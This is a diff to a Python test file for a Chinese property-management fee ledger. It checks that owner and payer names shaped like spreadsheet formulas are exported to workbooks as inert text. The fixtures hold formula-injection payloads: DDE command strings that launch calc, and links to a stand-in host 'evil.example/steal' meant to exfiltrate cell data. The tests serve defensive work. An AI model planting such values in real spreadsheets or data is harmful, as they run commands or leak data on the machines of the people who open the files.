@@ -1,7 +1,7 @@
 """Exports are text: names that look like formulas are written as text into every workbook, and read back.
 
-Owners and payers called ``=1+1``, ``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``, ``@SUM(…)`` or ``=A1``
-go into the owners export, the fee register, the daily report, the 送达签收表 and the monthly report;
+Owners and payers called ``=A1+1``, ``=cmd|' /C calc'!A0``, ``@A1:A9…`` or ``=A1`` (the names a roster takes:
+a call such as ``=HYPERLINK(…)`` or ``@SUM(…)``, with its brackets, is refused as a name) go into the owners export, the fee register, the daily report, the 送达签收表 and the monthly report;
 every one of those cells must be a string (never a live formula) and the export must import back
 exactly.
 """
@@ -29,11 +29,13 @@ from tests.conftest import OWNER_HEADERS
 from tests.fees_fixtures import CASHIER, RECEIPTS, bill_months
 
 DAY = dt.date(2026, 11, 23)
-LINK = '=HYPERLINK("http://evil.example/steal?x="&A1,"点这里")'
+# Names the roster takes (a letter, no bracket: a call such as =HYPERLINK(…) is refused as a name by the import
+# itself, and the writer's quoting of it is checked on its own below): a link by DDE, a range by @.
+LINK = "=cmd|' /C start http://evil.example/steal'!A1"
 COMMAND = "=cmd|' /C calc'!A0"
-AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+AT_SUM = "@A1:A9*cmd|' /C calc'!A0"
 CELL = "=A1"
-PAYER = "=1+1"
+PAYER = "=A1+1"
 HOSTILE_OWNERS = {"1-1-101": CELL, "1-1-102": LINK, "3-2-1201": COMMAND, "3-2-1202": AT_SUM}
 
 ROWS: list[list[Any]] = [
@@ -67,7 +69,7 @@ def hostile(workspace: Workspace, ledger_url: str, tmp_path: Path) -> Iterator[t
         CASHIER,
         [
             PaymentRequest("1-1-101", 30000, "微信", payer=PAYER, paid_on=DAY),
-            PaymentRequest("3-2-1201", 10000, "现金", payer="-2+3", paid_on=DAY),
+            PaymentRequest("3-2-1201", 10000, "现金", payer="-B2+3", paid_on=DAY),
         ],
     )
     yield ws, ledger
@@ -117,7 +119,7 @@ def test_registers_and_daily_report_write_names_as_text(hostile: tuple[Workspace
     write_register(ledger, "2026-11", tmp_path / "台账.xlsx", estate="测试小区")
     assert set(HOSTILE_OWNERS.values()) <= _texts(tmp_path / "台账.xlsx")
     write_daily(ledger, DAY, tmp_path / "日结.xlsx", estate="测试小区")
-    assert {PAYER, "-2+3"} <= _texts(tmp_path / "日结.xlsx")
+    assert {PAYER, "-B2+3"} <= _texts(tmp_path / "日结.xlsx")
 
 
 def test_sign_off_sheet_writes_names_as_text(hostile: tuple[Workspace, Ledger]) -> None:
